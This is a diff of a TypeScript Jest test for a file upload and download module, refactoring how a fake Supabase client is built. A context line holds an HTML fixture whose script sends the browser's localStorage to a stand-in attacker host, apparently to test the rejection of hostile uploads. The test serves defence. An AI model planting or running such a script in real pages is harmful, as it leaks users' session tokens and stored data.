@@ -1,7 +1,7 @@
-import type { SupabaseClient } from '@supabase/supabase-js';
 import { UPLOAD_FILE_MESSAGES } from '@donation-network/shared-rules';
 import { downloadStoredFile, isUploadCancelled, uploadStoredFile } from './stored-files';
 import { configureSupabase, setSupabaseClient } from './supabase-client';
+import { fakeSupabaseClient } from './testing/fake-client';
 
 const PDF = '%PDF-1.7\n%âãÏÓ\n';
 const HTML = '<html><script>fetch("//evil.example/?" + JSON.stringify(localStorage))</script></html>';
@@ -57,16 +57,18 @@ const downloads: Record<string, Blob> = {};
 const remove = jest.fn(async () => ({ data: [], error: null }));
 
 beforeEach(() => {
-  setSupabaseClient({
-    auth: { getSession: async () => ({ data: { session: { access_token: 'user-token' } } }) },
-    storage: {
-      from: () => ({
-        download: async (path: string) =>
-          downloads[path] ? { data: downloads[path], error: null } : { data: null, error: new Error('Object not found') },
-        remove,
-      }),
-    },
-  } as unknown as SupabaseClient);
+  setSupabaseClient(
+    fakeSupabaseClient({
+      auth: { getSession: async () => ({ data: { session: { access_token: 'user-token' } } }) },
+      storage: {
+        from: () => ({
+          download: async (path: string) =>
+            downloads[path] ? { data: downloads[path], error: null } : { data: null, error: new Error('Object not found') },
+          remove,
+        }),
+      },
+    }),
+  );
   configureSupabase({ supabaseUrl: 'https://api.example.org', supabaseAnonKey: 'sb_publishable_x' });
   (globalThis as { XMLHttpRequest: unknown }).XMLHttpRequest = FakeXhr;
   remove.mockClear();
